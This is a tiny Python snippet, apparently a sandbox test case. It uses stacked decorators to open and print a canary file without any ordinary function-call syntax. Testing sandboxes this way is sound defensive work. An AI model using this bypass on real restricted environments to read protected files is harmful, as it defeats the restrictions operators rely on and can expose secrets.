# calls functions only with decorators
f = lambda _: CANARY_FILE
@print
@list
@open
@f
class x: pass
